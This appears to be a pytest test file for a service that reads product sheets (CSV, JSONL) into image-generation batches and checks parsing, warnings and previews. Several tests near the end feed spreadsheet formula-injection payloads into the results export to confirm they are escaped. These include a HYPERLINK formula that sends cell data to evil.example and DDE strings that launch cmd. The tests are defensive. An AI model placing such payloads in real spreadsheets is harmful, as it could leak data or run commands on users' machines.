"""Sheets as spreadsheets, shops, databases and scripts export them."""

import base64
import csv
import io
import json
import time
import tracemalloc
from typing import Any

import pytest

from darkroom.domain.batch_file import BatchFileFormat, guess
from darkroom.domain.cells import MAX_CELL, split_references
from darkroom.domain.columns import MAX_COLUMNS
from darkroom.domain.errors import InvalidRequestError
from darkroom.domain.row_parser import Rows, rows_of
from darkroom.domain.rows import Row
from darkroom.domain.template import Template
from tests.fakes.images import PNG
from tests.fakes.world import World
from tests.unit.batches import running_batch, upload_rows
from tests.unit.http import Client

FOX, LAKE = "https://shop.example/red-fox.jpg", "https://shop.example/lake.jpg"


def sheet(text: str | bytes, prompt: str | None = None, **defaults: Any) -> Rows:
    data = text.encode() if isinstance(text, str) else text
    template = None if prompt is None else Template(prompt)
    return rows_of(data, guess("", data), template=template, defaults=defaults)


def rows(text: str | bytes, prompt: str | None = None) -> list[Row]:
    return [row for row, _ in sheet(text, prompt)]


def prompts(text: str | bytes, prompt: str | None = None) -> list[str | None]:
    """Return the prompt of each row; None for a bad row."""
    return [request.input["prompt"] if request else None for _, request in sheet(text, prompt)]


def problems(text: str | bytes, prompt: str | None = None) -> list[tuple[int | None, str]]:
    """Return the line and the message of each problem."""
    return [(row.line, e.message) for row in rows(text, prompt) for e in row.errors]


def warnings(text: str | bytes, prompt: str | None = None) -> list[str]:
    read = sheet(text, prompt)
    list(read)
    return list(read.warnings)


def refusal(text: str | bytes, prompt: str | None = None) -> str:
    with pytest.raises(InvalidRequestError) as error:
        rows(text, prompt)
    return str(error.value)


# ------------------------------------------------------------------------------------- the table


@pytest.mark.parametrize(
    "text",
    [
        "id,prompt,quality,,,\r\n1,A teapot,low,,,\r\n2,A cup,low,,,\r\n",
        "id,prompt,quality\r\n1,A teapot,low,,\r\n2,A cup\r\n",
        "\r\n,,\r\nid,prompt,quality\r\n,,\r\n1,A teapot,low\r\n\r\n2,A cup,low\r\n,,\r\n,,\r\n",
        "id;prompt;quality\r\n1;A teapot;low\r\n2;A cup;low\r\n",
        "id\tprompt\tquality\r\n1\tA teapot\tlow\r\n2\tA cup\tlow\r\n",
        "id|prompt|quality\r\n1|A teapot|low\r\n2|A cup|low\r\n",
        "sep=;\r\nid;prompt;quality\r\n1;A teapot;low\r\n2;A cup;low\r\n",
        '"sep=\t"\nid\tprompt\n1\tA teapot\n2\tA cup\n',
        "id,prompt,quality\r1,A teapot,low\r2,A cup,low\r",
        "id,prompt,quality\n1,A teapot,low\r\n2,A cup,low",
        '"id","prompt","quality"\n"1","A teapot","low"\n"2","A cup","low"\n',
        ",prompt,quality\n0,A teapot,low\n1,A cup,low\n",
        ",Unnamed: 0,Unnamed: 0.1,prompt\n0,0,0,A teapot\n1,1,1,A cup\n",
        "Table 1\nid,prompt\n1,A teapot\n2,A cup\n",
        ";;\nTable 1;;\n;;\nid;prompt;quality\n1;A teapot;low\n2;A cup;low\n",
        "| id | prompt |\n| 1 | A teapot |\n| 2 | A cup |\n",
        "ID,Prompt,Quality\n1,A teapot,low\n2,A cup,low\n",
        "\ufeffid , prompt,quality \n1,A teapot , low\n2, A cup,low\n",
    ],
)
def test_layouts_of_exported_sheets_are_read(text: str) -> None:
    assert prompts(text) == ["A teapot", "A cup"]


@pytest.mark.parametrize("encoding", [
    "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be",
])  # fmt: skip
@pytest.mark.parametrize("file_format", BatchFileFormat)
def test_unicode_encodings_are_read_with_and_without_a_mark(
    encoding: str, file_format: BatchFileFormat
) -> None:
    text = "id\tprompt\r\n1\tEine weiße Teekanne\r\n2\t白いティーポット\r\n"
    if file_format is BatchFileFormat.JSONL:
        text = '{"prompt": "Eine weiße Teekanne"}\r\n{"prompt": "白いティーポット"}\r\n'
    data = text.encode(encoding)
    if encoding == "utf-32-be":
        data = b"\0\0\xfe\xff" + data

    assert guess("", data) is file_format
    assert prompts(data) == ["Eine weiße Teekanne", "白いティーポット"]


@pytest.mark.parametrize(
    ("encoding", "text", "place"),
    [
        ("cp1252", "id;prompt\n1;Tee\n2;Eine grüne Kanne\n", 'Line 3, column 2 "prompt" is not in'),
        ("shift-jis", 'id,prompt\n1,"a\nb"\n2,椅子\n', 'Line 4, column 2 "prompt" is not in UTF-8'),
        ("mac-roman", "id,prompt\r1,Grün\r", 'Line 2, column 2 "prompt" is not in UTF-8'),
        ("cp1251", "ключ,prompt\n1,x\n", "Line 1, column 1 is not in UTF-8"),
    ],
)
def test_other_encoding_is_refused_with_line_and_column(
    encoding: str, text: str, place: str
) -> None:
    message = refusal(text.encode(encoding))

    assert message.startswith(place)
    assert message.endswith('Save it as "CSV UTF-8".')


def test_other_encoding_of_a_json_file_is_refused_with_line_and_character() -> None:
    data = '{"prompt": "x"}\n{"prompt": "é"}'.encode("latin-1")

    assert refusal(data).startswith('Line 2, character 13, is not in UTF-8: byte 0xE9, "é" in')


@pytest.mark.parametrize("data", [
    b"PK\x03\x04 xlsx", b"\xd0\xcf\x11\xe0 xls", b"%PDF-1.7", b"\x1f\x8b\x08",
])  # fmt: skip
def test_file_that_is_no_text_is_named(data: bytes) -> None:
    assert refusal(data).endswith("Export the sheet as CSV.")


def test_line_break_in_the_header_is_part_of_the_name() -> None:
    text = '"shot\nname";product;quality\n1;teapot;low\n'

    assert prompts(text, "{shot name}: {product}") == ["1: teapot"]
    assert rows(text, "{product}")[0].line == 3


def test_decomposed_letters_in_a_header_are_the_same_name() -> None:
    assert prompts("id,Gro\u0308ße\n1,klein\n", "{Größe}") == ["klein"]


def test_json_list_is_read_as_rows() -> None:
    text = json.dumps([{"prompt": "A teapot"}, {"prompt": "A cup"}, 5], indent=1)

    assert prompts(text) == ["A teapot", "A cup", None]
    assert "line 2 column" in refusal('[{"prompt": "x"},\n {"prompt": ]')


@pytest.mark.parametrize("text", ["id,prompt\n", ",,,\n,,\n", "\ufeff", "\n\n"])
def test_sheet_without_rows_has_no_rows(text: str) -> None:
    assert rows(text) == []


def test_rows_have_the_line_on_which_they_begin() -> None:
    text = 'id,prompt\n\n1,"two\nlines"\n,\n2,one\n'

    assert [(row.number, row.line) for row in rows(text)] == [(1, 3), (2, 6)]
    assert [row.line for row in rows('\n{"prompt": "x"}\n\n{"prompt": "y"}')] == [2, 4]


# ------------------------------------------------------------------------------------ bad rows


@pytest.mark.parametrize(
    ("row", "place"),
    [
        ('2,"Cheap" mug,low', 'line 3, column 2 "prompt"'),
        ('2,"Cheap mug,low', 'line 3, column 2 "prompt"'),
        ('"2"x,Cheap mug,low', 'line 3, column 1 "id"'),
        ('2,"a ""b"" c"d,low', 'line 3, column 2 "prompt"'),
    ],
)
def test_malformed_row_is_one_bad_row(row: str, place: str) -> None:
    text = f"id,prompt,quality\n1,A teapot,low\n{row}\n3,A cup,low\n4,A jug,low\n"

    assert prompts(text) == ["A teapot", None, "A cup", "A jug"]
    ((line, message),) = problems(text)
    assert line == 3
    assert f"The cell in {place} is not valid CSV" in message


def test_lines_of_a_malformed_row_are_not_rows_of_their_own() -> None:
    text = 'id,prompt,quality\n1,"A "red" pot\nand a lid\non oak",low\n2,A cup,low\n'

    assert prompts(text) == [None, "A cup"]
    assert problems(text)[0][1].endswith("Lines 2 to 4 are one bad row.")


@pytest.mark.parametrize("more", ["", '4,"A ""big"" pot"\n', '4,"A pot\n'])
def test_quote_that_is_never_closed_hides_no_later_row(more: str) -> None:
    text = f'id,prompt\n1,"A teapot\n2,A cup\n3,A jug\n{more}'

    assert prompts(text)[:3] == [None, "A cup", "A jug"]


def test_malformed_row_of_one_column_is_one_bad_row_if_its_quotes_are_even() -> None:
    assert prompts('prompt\nA teapot\n"Cheap" mug\nA cup\n') == ["A teapot", None, "A cup"]
    assert prompts('prompt\n"A "red" pot\nand a lid"\nA cup\n') == [None, "A cup"]


def test_malformed_row_is_refused_if_the_rest_cannot_be_distinguished() -> None:
    assert 'line 3, column 1 "prompt"' in refusal('prompt\nA teapot\n"A pot\nA cup\n')


def test_malformed_header_is_refused_with_line_and_column() -> None:
    assert "line 1, column 2" in refusal('id,"pro"mpt\n1,x\n')


@pytest.mark.parametrize("text", [
    "id,prompt\n1,A teapot, red\n2,A cup\n",  # a comma without quotes
    "id,prompt,,\n1,A teapot, red,\n2,A cup,,\n",
    "id,prompt,,quality\n1,A teapot, red,low\n2,A cup,,low\n",
])  # fmt: skip
def test_cell_without_a_column_is_a_bad_row(text: str) -> None:
    assert prompts(text) == [None, "A cup"]


@pytest.mark.parametrize("value", [
    "#REF!", "#N/A", "#NAME?", "#VALUE!", "#DIV/0!", "#WERT!", "#BEZUG!", "#NV", "#N/D",
    "#¡VALOR!", "Err:502", "#####",
])  # fmt: skip
def test_error_of_a_spreadsheet_is_a_bad_row(value: str) -> None:
    text = f"id,product\n1,{value}\n2,cup\n"

    assert prompts(text, "A {product}") == [None, "A cup"]
    assert problems(text, "A {product}") == [
        (2, f'Column "product" is {value}, an error of the spreadsheet.')
    ]


@pytest.mark.parametrize("value", ["#1 hit", "#red", "#SALE", "Error", "# REF!", "Err:5"])
def test_text_like_an_error_of_a_spreadsheet_is_data(value: str) -> None:
    assert prompts(f"id,product\n1,{value}\n", "{product}") == [value]


@pytest.mark.parametrize("value", [
    "NULL", "nan", "NaN", "None", "<NA>", "N/A", "\\N", "\u200b", "\u3164", "-", "---", "\u2013",
])  # fmt: skip
def test_null_of_a_program_is_an_empty_cell(value: str) -> None:
    (row,) = rows(f"id,product,quality\n1,teapot,{value}\n", "A {product}")

    assert row.request is not None
    assert "quality" not in row.request
    assert problems(f"id,product\n1,{value}\n", "A {product}") == [
        (2, 'Column "product" is empty, but the prompt uses {product}.')
    ]


def test_long_cell_is_one_bad_row() -> None:
    long = "x" * (MAX_CELL + 1)
    text = f"id,prompt,notes\n1,{long},\n2,A cup,{long}\n3,A jug,{'y' * 40_000}\n"

    assert prompts(text, "{prompt}!") == [None, "A cup!", "A jug!"]
    assert problems(text, "{prompt}") == [
        (2, 'Column "prompt" has 131,073 characters. Use at most 131,072 characters.')
    ]


def test_number_of_columns_is_limited() -> None:
    header = ",".join(["prompt", *(f"c{number}" for number in range(MAX_COLUMNS))])

    assert refusal(f"{header}\nx\n", "{prompt}") == (
        "Line 1 has 1,001 columns. Use at most 1,000 columns."
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("prompt" + "," * 200_000, "Line 1 has 200,001 cells. Use at most 1,000 columns."),
        ("prompt\nx" + "," * 200_000, "Line 2 has 200,001 cells. Use at most 1,000 columns."),
        ("prompt" + "\n" * 1_000_001, "The file has too many lines. Use at most 1,000,000 lines."),
        ("[" + "{}," * 3_000_000 + "{}]", "A JSON list has at most 8,000,000 characters."),
    ],
)
def test_memory_for_a_sheet_is_limited(text: str, message: str) -> None:
    assert refusal(text).startswith(message)


@pytest.mark.parametrize("cell", [
    " ,;" * 40_000, "(https://" * 13_000, "s3://b/" + ".png " * 20_000, "9" * 130_000 + ":0x",
    '""' * 60_000,
])  # fmt: skip
def test_hostile_cell_is_read_in_linear_time(cell: str) -> None:
    text = f'prompt,images,aspect_ratio\nx,"{cell}","{cell}"\nx,,\n'

    start = time.process_time()

    assert prompts(text) == [None, "x"]
    assert time.process_time() - start < 5  # quadratic time is minutes


def test_refused_column_is_named_with_line_and_column() -> None:
    assert refusal("\nprompt,sku\nx,7\n").startswith('Line 2, column 2: Column "sku" is not a')
    assert "Line 1, columns 1 and 3" in refusal("prompt,id,prompt\nx,1,y\n")
    assert refusal("Quality,quality,prompt\nlow,low,x\n") == (
        'The columns "Quality" and "quality" set the same field. Remove one.'
    )
    assert "The columns in line 2 are Handle, Title" in refusal("\nHandle,Title\nx,y\n", "{name}")


# -------------------------------------------------------------------------- columns of a template


SHOPIFY = (
    "Handle,Title,Body (HTML),Image Src,Variant SKU,Quantity\n"
    f"teapot,Teapot,<p>A pot</p>,{FOX},SKU-1,4\n"
)


def test_columns_of_a_shop_are_data_with_a_template() -> None:
    assert prompts(SHOPIFY, "{Title} on white") == ["Teapot on white"]
    assert warnings(SHOPIFY, "{Title} on white") == [
        'Column "Image Src" looks like the setting images, but is not used. To set images, name the'
        ' column "setting:images".',
        'Column "Quantity" looks like the setting quality, but is not used. To set quality, name'
        ' the column "setting:quality".',
        'These columns are not used: "Handle", "Body (HTML)", "Variant SKU".',
    ]


@pytest.mark.parametrize(
    "column", ["Images", "Model", "Priority", "Qualty", "Resolutions", "Input"]
)
def test_column_like_a_setting_is_data_with_a_template(column: str) -> None:
    text = f"Title,{column}\nTeapot,anything\n"

    assert prompts(text, "{Title}") == ["Teapot"]
    (warning,) = warnings(text, "{Title}")
    assert f'Column "{column}" looks like the setting' in warning


def test_setting_can_be_named_in_any_case_with_the_prefix() -> None:
    (row,) = rows("Title,Setting: Aspect Ratio\nTeapot,16:9\n", "{Title}")

    assert row.request is not None
    assert row.request["aspect_ratio"] == "16:9"


def test_columns_with_the_same_name_are_refused_only_if_they_are_used() -> None:
    text = "Title,Notes,Notes\nTeapot,a,b\n"

    assert prompts(text, "{Title}") == ["Teapot"]
    assert 'two columns "Notes"' in refusal(text, "{Notes}")


def test_column_id_in_any_case_is_the_id_and_can_be_data() -> None:
    (row,) = rows("ID,Title\nsku-1,Teapot\n", "{ID}: {Title}")

    assert (row.id, row.request and row.request["prompt"]) == ("sku-1", "sku-1: Teapot")


@pytest.mark.parametrize("row_id", [7, 7.0, "7"])
def test_id_of_pandas_is_a_whole_number(row_id: object) -> None:
    assert rows(json.dumps({"id": row_id, "prompt": "x"}))[0].id == "7"


# --------------------------------------------------------------------------------- the template


@pytest.mark.parametrize(
    ("template", "text", "position"),
    [
        ("A {0} in {1}", "{0}", 3), ("A {a.b}", "{a.b}", 3), ("{a!r}", "{a!r}", 1),
        ("{a:>10}", "{a:>10}", 1), ("{a[0]}", "{a[0]}", 1),
    ],
)  # fmt: skip
def test_name_that_braces_do_not_permit_is_refused_with_the_rule(
    template: str, text: str, position: int
) -> None:
    with pytest.raises(InvalidRequestError) as error:
        Template(template)

    assert (
        f"`prompt` has {text} at character {position}, which cannot name a column: a name in braces"
        " has no . [ ] ! : and is not only a number."
    ) in str(error.value)


@pytest.mark.parametrize(
    ("template", "text", "position"),
    [
        ("{}", "{}", 1), ("a {", "{", 3), ("a }", "}", 3), ("{{a}", "}", 4), ("{a{b}}", "{", 1),
        ("{ }", "{ }", 1), ("x {a\u200b", "{", 3),
    ],
)  # fmt: skip
def test_braces_without_a_column_are_refused_with_their_position(
    template: str, text: str, position: int
) -> None:
    with pytest.raises(InvalidRequestError) as error:
        Template(template)

    assert f"`prompt` has {text} at character {position}, which names no column" in str(error.value)


def test_names_in_braces_may_have_spaces() -> None:
    assert prompts("Body (HTML),b\n<p>,x\n", "{ Body (HTML) } {{b}} {b}}}") == ["<p> {b} x}"]


def test_length_of_a_filled_prompt_is_limited_without_building_it() -> None:
    template = Template("{a}" * 10_666)
    cell = "x" * 30_000
    tracemalloc.start()
    try:
        with pytest.raises(InvalidRequestError) as error:
            template.fill({"a": cell})
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert str(error.value) == (
        'The prompt would have 319,980,000 characters, most of them from column "a". Use at most'
        " 32,000 characters."
    )
    assert peak < 1_000_000


def test_prompts_of_all_rows_are_limited() -> None:
    text = "a\n" + "x\n" * 2_200

    assert "The prompts up to line 2002 have more than 64 million" in refusal(
        text, "{a}" + "y" * 31_999
    )


@pytest.mark.parametrize("value", ['["x", "y"]', '{"a": 1}', "[]"], ids=len)
def test_value_that_is_no_text_is_a_bad_row(value: str) -> None:
    assert problems(f'{{"product": {value}}}', "A {product} on white") == [
        (1, 'Column "product" must be a text or a number: the prompt uses it.')
    ]


@pytest.mark.parametrize(
    ("value", "text"),
    [(7, "7"), (7.0, "7"), (7.5, "7.5"), (True, "true"), (False, "false"), (" x ", "x"), (0, "0")],
)
def test_number_and_boolean_are_written_as_in_json(value: object, text: str) -> None:
    assert prompts(json.dumps({"product": value}), "A {product}") == [f"A {text}"]


# ------------------------------------------------------------------------------------- warnings


PRODUCTS = "id,product,quality\nsku-1,teapot,low\nsku-2,kettle,low\n"


def test_template_without_a_column_is_a_warning() -> None:
    text, same = warnings(PRODUCTS, "A {{product}} on white")[1::-1]

    assert same.startswith("The prompt names no column, so 2 rows have the same prompt.")
    assert text == (
        "The prompt of row 1 has the text {product}, and product is a column. Use single braces to"
        " insert the column."
    )


def test_step_with_the_name_of_a_column_in_braces_is_a_warning() -> None:
    """The step would be paid with the braces in its prompt."""
    steps = json.dumps([{"prompt": "a {product}"}, {"prompt": "{blue}"}]).replace('"', '""')
    sheet = f'product,then\nteapot,"{steps}"\n'

    assert warnings(sheet, "A {product}") == [
        "A step of row 1 has the text {product}, and product is a column. A template fills only the"
        " first prompt. Write the steps into each row."
    ]


def test_template_that_names_its_columns_has_no_warning() -> None:
    assert warnings(PRODUCTS, "A {product} on {{white}}") == []


@pytest.mark.parametrize("text", [
    'prompt,images\n"A {images} on white",https://a.test/b.png\n',
    '{"prompt": "A {images}", "images": "https://a.test/b.png"}',
])  # fmt: skip
def test_row_prompt_with_the_name_of_a_column_in_braces_is_a_warning(text: str) -> None:
    assert warnings(text) == [
        "The prompt of row 1 has the text {images}, and images is a column. Pass the prompt as a"
        " template to insert the column."
    ]


def test_template_that_no_row_uses_is_a_warning() -> None:
    assert warnings("prompt,product\nA pot,teapot\nA cup,cup\n", "{product}") == [
        "Each valid row has its own prompt, so the template is not used."
    ]


def test_repeated_request_is_a_warning() -> None:
    assert warnings("id,prompt\n1,A pot\n2,A cup\n3,A pot\n4,A pot\n") == [
        "2 rows have the same request as an earlier row: row 3 is the same as row 1. Each row is"
        " one image."
    ]
    assert warnings("id,prompt,quality\n1,A pot,low\n2,A pot,high\n") == []


@pytest.mark.parametrize("text", ["Größe", "weiß \u2013 “neu”", "日本", "Café"])
def test_prompt_read_in_a_wrong_encoding_is_a_warning(text: str) -> None:
    garbled = text.encode().decode("cp1252", "ignore")

    assert "in a wrong encoding" in warnings(f"prompt\nA {garbled} pot\n")[0]
    assert warnings(f"prompt\nA {text} pot, Ã Â â€\n") == []


@pytest.mark.parametrize("value", ["4.00647E+12", "4,00647E+12"])
def test_number_that_a_spreadsheet_has_shortened_is_a_bad_row(value: str) -> None:
    text = f"id;ean\n1;{value}\n2;4006470000017\n"

    assert prompts(text, "Barcode {ean}") == [None, "Barcode 4006470000017"]


@pytest.mark.parametrize("value", ["=A1", '"=CONCAT(""a"";B2)"', "=-1", "= SUM(A1)"])
def test_formula_instead_of_its_value_is_a_bad_row(value: str) -> None:
    assert prompts(f"id;product\n=1;cup\n2;{value}\n3;= = =\n", "{product}") == [
        "cup", None, "= = =",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "prompt"),
    [("Products\nA teapot,red\n", "{title}"), ("Products\nA teapot,prompt\n", None)],
)
def test_line_that_is_no_title_is_the_header(text: str, prompt: str | None) -> None:
    assert "line 1" in refusal(text, prompt).lower()


def test_nan_and_empty_texts_of_a_script_are_not_given() -> None:
    text = '{"id": "", "prompt": "A pot", "quality": NaN, "images": "", "resolution": ""}'
    ((row, request),) = sheet(text)

    assert row.id is None
    assert request is not None
    assert request.input["quality"] == "medium"
    assert problems('{"product": Infinity}\n{"product": NaN}', "{product}") == [
        (1, 'Column "product" must be a text or a number: the prompt uses it.'),
        (2, 'Column "product" is empty, but the prompt uses {product}.'),
    ]


def test_number_of_warnings_is_limited() -> None:
    header = ",".join(["a", *(f"quality{number}" for number in range(900))])

    assert len(warnings(f"{header}\nx\n", "{a}")) == 20


# --------------------------------------------------------------------------- references in a cell


UPLOAD = "upload:1f0c.png"


@pytest.mark.parametrize(
    ("cell", "references"),
    [
        (f"{FOX}, {LAKE}", [FOX, LAKE]),
        (f"{FOX},{LAKE}", [FOX, LAKE]),
        (f"{FOX};{LAKE};", [FOX, LAKE]),
        (f"{FOX}\n{LAKE}", [FOX, LAKE]),
        (f"{FOX} | {LAKE}", [FOX, LAKE]),
        (f"{FOX} {LAKE} {UPLOAD}", [FOX, LAKE, UPLOAD]),
        (f"{UPLOAD},{UPLOAD}", [UPLOAD, UPLOAD]),
        ("s3://bucket/references/Summer lake (1).jpg",
         ["s3://bucket/references/Summer lake (1).jpg"]),
        (f"s3://bucket/Summer lake.jpg, s3://bucket/a, b.png;{FOX}",
         ["s3://bucket/Summer lake.jpg", "s3://bucket/a, b.png", FOX]),
        ("https://cdn.example/w_300,h_200/fox.jpg?a=1,2",
         ["https://cdn.example/w_300,h_200/fox.jpg?a=1,2"]),
        (f'["{FOX}", "{LAKE}"]', [FOX, LAKE]),
        (f"fox (1).jpg ({FOX}), lake, two.jpg ({LAKE})", [FOX, LAKE]),
        (f"fox.jpg ({FOX})", [FOX]),
        ("data:image/png;base64,aGk=, data:image/png;base64,aGk=",
         ["data:image/png;base64,aGk=", "data:image/png;base64,aGk="]),
        ("HTTPS://a.test/b.png", ["HTTPS://a.test/b.png"]),
    ],
)  # fmt: skip
def test_references_in_one_cell_are_separated(cell: str, references: list[str]) -> None:
    assert split_references(cell) == references


@pytest.mark.parametrize(
    "cell",
    [
        "red-fox.jpg", "red fox.jpg", "fox1", "references/fox.jpg", "http://a.test/b.png",
        f"{FOX}, lake.jpg", f"{FOX} lake.jpg", "https://a.test/red fox.jpg",
        "s3://bucket/a.jpg,b.jpg", "s3://bucket/a.jpg b.jpg", "s3://bucket/a.jpg;b/c.png",
        "upload:a.png b.png", "upload:", "s3://bucket", "<img src='https://a.test/b.png'>",
        "fox.jpg (https://a.test/b.png", '["red-fox.jpg"]', "[5]", ",",
        base64.b64encode(b"GIF89a" + bytes(40)).decode(),
    ],
)  # fmt: skip
def test_cell_with_an_unreadable_reference_is_a_bad_row(cell: str) -> None:
    quoted = cell.replace('"', '""')
    text = f'id,prompt,images\n1,Make it winter,"{quoted}"\n2,Make it winter,{FOX}\n'

    bad, good = sheet(text)

    assert bad[1] is None, bad
    assert bad[0].errors[0].field.partition(".")[0] == "images"
    assert good[1] is not None


def test_references_of_a_json_row_may_be_one_text() -> None:
    ((_, request),) = sheet(json.dumps({"prompt": "x", "images": f"{FOX}, {LAKE}"}))

    assert request is not None
    assert request.references == (FOX, LAKE)


def test_base64_image_in_a_cell_is_a_reference() -> None:
    image = base64.b64encode(PNG).decode()
    ((_, request),) = sheet(f"prompt,images\nx,{image}\n")

    assert request is not None
    assert request.references == (image,)


def test_empty_list_of_images_is_no_text_to_image() -> None:
    assert problems('{"prompt": "x", "images": []}') == [
        (1, "`images` has 0 items. Use at least 1 item.")
    ]


# ------------------------------------------------------------------------------------- the plan


def plan(ada: Client, data: bytes, **fields: Any) -> Any:
    source = upload_rows(ada.world, data, f"key:{ada.name}")
    body = {"source": source, "format": "CSV", "dry_run": True, **fields}
    response = ada.post("/v1/batches", body)
    assert response.status == 200, response.text
    return response.json


def test_plan_shows_lines_warnings_and_the_first_requests() -> None:
    data = (
        f"Handle,Title,images\nteapot,Teapot,\ncup,Cup,{FOX}?sig=1\nx,,\njug,Jug,\npot,Pot,\n"
    ).encode()

    payload = plan(Client(), data, prompt="A {Title} on white", defaults={"quality": "Low"})

    settings = {"resolution": "1k", "quality": "low", "output_format": "png"}
    model = "openai/gpt-image-2/"
    assert payload["preview"] == [
        {"row": 1, "id": None, "model": f"{model}text-to-image", "references": [],
         "input": settings | {"prompt": "A Teapot on white"}},
        {"row": 2, "id": None, "model": f"{model}edit", "references": [f"{FOX}?sig=1"],
         "input": settings | {"prompt": "A Cup on white"}},
        {"row": 4, "id": None, "model": f"{model}text-to-image", "references": [],
         "input": settings | {"prompt": "A Jug on white"}},
    ]  # fmt: skip
    assert payload["warnings"] == ['These columns are not used: "Handle".']
    assert [(error["row"], error["line"]) for error in payload["errors"]] == [(3, 4)]


def test_preview_has_the_input_that_is_submitted() -> None:
    ada = Client()
    (preview,) = plan(ada, b"prompt,quality,aspect_ratio\nA teapot,LOW,16 : 9\n")["preview"]

    job = ada.accept_job(
        {"operation": "text-to-image", "prompt": "A teapot", "quality": "low",
         "aspect_ratio": "16:9"}
    )  # fmt: skip

    assert (preview["input"], preview["model"]) == (job.input, job.model)


def test_preview_gives_base64_by_its_length() -> None:
    image = "data:image/png;base64," + base64.b64encode(PNG).decode()
    (preview,) = plan(Client(), f'prompt,images\nx,"{image}"\n'.encode())["preview"]

    assert preview["references"] == [f"base64, {len(image):,} characters"]


def test_started_batch_keeps_its_warnings() -> None:
    ada = Client()
    source = upload_rows(ada.world, PRODUCTS.encode(), f"key:{ada.name}")

    body = {"source": source, "format": "csv", "prompt": "A pot"}

    batch = ada.post("/v1/batches", body).json

    assert batch["warnings"][0].startswith("The prompt names no column")
    assert batch["preview"] == []


# ------------------------------------------------------------------------------------ the results


def results(ids: list[str], name: str = "results.csv") -> bytes:
    """Return the results of a batch with these ids. Each row is canceled."""
    world = World()
    batch = running_batch(world, [{"prompt": "x", "id": row_id} for row_id in ids])
    world.batches.update(batch.batch_id, when=[batch.status], canceled_at=world.clock())
    world.app.collect_batch.run(batch.batch_id)
    return world.batch_files.written[batch.batch_id, name]


@pytest.mark.parametrize("row_id", [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
    "+1", "-1", "\tx", "\rx", "\nx", "\uff1d1+1", " =1+1", "\u00a0=1", '"=1', "\ufeff=1",
])  # fmt: skip
def test_cell_of_the_results_is_never_a_formula(row_id: str) -> None:
    _, row = csv.reader(io.StringIO(results([row_id]).decode("utf-8-sig"), newline=""))

    assert row[1] == f"'{row_id}"


@pytest.mark.parametrize(
    ("row_id", "cell"),
    [
        ("x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"),
        ("x; @SUM(1)", "x;' @SUM(1)"),
        ('x;"=1+1"', 'x;\'"=1+1"'),
        ("x\t=1", "x\t'=1"),
        ("\t=1", "'\t'=1"),
        ("x\n-1;+2", "x\n'-1;'+2"),
        ("x\r\n=1", "x\r\n'=1"),
        ("a=b; c-d, e@f.test; 5", "a=b; c-d, e@f.test; 5"),
        ("'=1", "'=1"),
    ],
)
def test_part_of_a_cell_is_no_formula_with_another_separator(row_id: str, cell: str) -> None:
    """Excel splits at semicolons in many locales; LibreOffice offers semicolons and tabs."""
    text = results([row_id]).decode("utf-8-sig")
    _, row = csv.reader(io.StringIO(text, newline=""))

    assert row[1] == cell
    for delimiter in (";", "\t", "|"):
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not any(part.lstrip(' "').startswith(("=", "+", "-", "@")) for part in line)


def test_results_in_jsonl_are_exact() -> None:
    row_id = "=1;-2"

    assert json.loads(results([row_id], "results.jsonl"))["id"] == row_id


def test_results_open_with_umlauts_in_a_spreadsheet() -> None:
    text = results(["café-Größe_日本", "a=b"])

    assert text.startswith(b"\xef\xbb\xbfrow,id,status")
    assert [row.split(",")[1] for row in text.decode("utf-8-sig").splitlines()[1:]] == [
        "café-Größe_日本", "a=b",
    ]  # fmt: skip


# ------------------------------------------------------------------------------ mapped columns


def mapped(text: str, prompt: str | None = None, **fields: str) -> Rows:
    data = text.encode()
    template = None if prompt is None else Template(prompt)
    return rows_of(data, guess("", data), template=template, defaults={}, fields=fields)


@pytest.mark.parametrize(
    "text",
    [
        f"SKU,Photo,id,images,quality\nfox,{FOX},7,none,fine\n",
        json.dumps({"SKU": "fox", "Photo": FOX, "id": 7, "images": "none", "quality": "fine"}),
    ],
)
def test_request_names_the_columns_of_fields(text: str) -> None:
    read = mapped(text, "{SKU}, {quality}", id="SKU", images="Photo")

    ((row, request),) = read

    assert request is not None, row.errors
    assert (row.id, request.input["prompt"], request.references) == ("fox", "fox, fine", (FOX,))
    assert request.input.get("quality") == "medium"
    columns = {column.name: column for column in read.columns}
    assert {name: column.field for name, column in columns.items()} == {
        "SKU": "id", "Photo": "images", "id": None, "images": None, "quality": None,
    }  # fmt: skip
    assert {name for name, column in columns.items() if column.in_prompt} == {"SKU", "quality"}
    assert columns["Photo"].samples == (FOX,)


def test_plan_shows_the_columns_of_a_file_that_has_no_prompt_yet() -> None:
    read = mapped("SKU,Title\na,Teapot\n\nb,Kettle\nc,Jug\nd,Pan\n")

    assert [request for _, request in read] == [None] * 4
    assert [(column.name, column.samples) for column in read.columns] == [
        ("SKU", ("a", "b", "c")), ("Title", ("Teapot", "Kettle", "Jug")),
    ]  # fmt: skip


def test_mapped_column_has_the_problems_of_its_field_under_its_own_name() -> None:
    read = mapped("Text,Size\nx,huge\n", "{Text}", resolution="Size")

    ((row, _),) = read
    assert [problem.message[:14] for problem in row.errors] == ['Column "Size" ']


def test_column_that_the_file_does_not_have_is_refused() -> None:
    with pytest.raises(InvalidRequestError, match=r"`columns` names \"Foto\" for `images`"):
        list(mapped("Text,Photo\nx,y\n", "{Text}", images="Foto"))
    read = mapped('{"Text": "x"}', "{Text}", images="Foto")
    list(read)
    assert 'No row has the column "Foto" for `images`.' in read.warnings
